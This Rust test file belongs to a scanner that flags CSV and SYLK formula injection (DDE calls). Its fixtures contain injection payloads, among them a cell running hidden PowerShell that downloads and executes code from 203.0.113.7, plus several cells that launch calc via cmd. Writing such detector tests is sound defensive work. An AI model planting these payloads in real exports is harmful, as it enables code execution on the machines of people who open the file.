//! Delimited text (CSV, TSV) that Excel opens and whose formula cells ask
//! it to start a program (DDE: `=cmd|' /C calc'!A0`), the "CSV injection"
//! of exports; whatever the file is named, since the check reads content.
//! Ordinary sheets, Markdown tables and regular expressions stay clean.

use xferscan::{FindingKind, Verdict};

use crate::util::*;

fn dde(r: &xferscan::Report) -> Vec<(String, bool)> {
    r.findings
        .iter()
        .filter_map(|f| match &f.kind {
            FindingKind::Dde {
                command,
                interpreter,
                ..
            } => Some((command.clone(), *interpreter)),
            _ => None,
        })
        .collect()
}

#[test]
fn dde_calls_to_a_shell_are_blocked_in_every_spelling() {
    let sheets = [
        "name,amount\r\nAlice,10\r\n=cmd|' /C powershell -w hidden -c IEX(iwr http://203.0.113.7/a)'!A0,20\r\n",
        "id;total\n1;@SUM(1+1)*cmd|' /C calc'!A0\n",
        "a\tb\n\"+cmd|'/c calc'!'A1'\"\tx\n",
        "x,\"=SUM(1,2)+cmd|' /C calc'!A0\",y\n",
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''\n",
        "=powershell|'-c iwr http://203.0.113.7/a'!A1\n",
    ];
    for sheet in sheets {
        for name in ["export.csv", "export.txt", "export"] {
            let r = scan(name, sheet.as_bytes().to_vec());
            let calls = dde(&r);
            assert!(calls.iter().any(|c| c.1), "{name}: {sheet:?} {calls:?}");
            assert_eq!(r.verdict, Verdict::Malicious, "{name}: {sheet:?}");
        }
    }
    // Inside an archive too.
    let z = zip_of(&[("report.csv", sheets[0].as_bytes())], Method::Deflated);
    assert_eq!(scan("reports.zip", z).verdict, Verdict::Malicious);
}

#[test]
fn a_dde_call_to_another_program_is_flagged() {
    let r = scan(
        "links.csv",
        b"a,b\n=Excel|'C:\\data\\[q3.xlsx]Sheet1'!R1C1,2\n".to_vec(),
    );
    assert_eq!(
        dde(&r),
        [("Excel|'C:\\data\\[q3.xlsx]Sheet1'!R1C1".to_owned(), false)]
    );
    assert_eq!(r.verdict, Verdict::Suspicious);
}

#[test]
fn ordinary_sheets_and_text_with_bars_are_clean() {
    for (name, text) in [
        (
            "sales.csv",
            "region,total,formula\nnorth,12,=SUM(B2:B9)\nsouth,-4,=B2|B3\n",
        ),
        (
            "notes.md",
            "| cmd | what |\n|---|---|\n| `=a|b` | pipes! |\n",
        ),
        ("run.sh", "#!/bin/sh\nps aux | grep x && echo done!\n"),
        (
            "syntax.vim",
            "syn match x \"\\(where\\|so\\)\\s*\\@<=/[/=]\\@!\"\n",
        ),
        ("log.txt", "-- user|admin!login ok\n+ added a|b! entries\n"),
    ] {
        let r = scan(name, text.as_bytes().to_vec());
        assert!(dde(&r).is_empty(), "{name}: {:?}", dde(&r));
    }
    assert_clean(&scan("sales.csv", b"a,b\n1,2\n=1+2,=A1*3\n".to_vec()));
}

/// A SYLK cell's formula (`E`, written without the `=`) calls a program by
/// DDE as a CSV cell does (Excel opens `.slk` files).
#[test]
fn a_dde_call_in_a_sylk_cell_is_read() {
    let slk = b"ID;P\r\nC;X1;Y1;K0;Ecmd|' /C calc'!A0\r\nE\r\n".to_vec();
    let r = scan("prices.slk", slk);
    assert!(has_key(&r, "document.dde.command"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
    // Control: a sheet of sums.
    let plain = b"ID;P\r\nC;X1;Y1;K1\r\nC;X1;Y2;K2;ESUM(R1C1:R1C1)\r\nE\r\n".to_vec();
    assert!(!has_key(&scan("prices.slk", plain), "document.dde"));
}
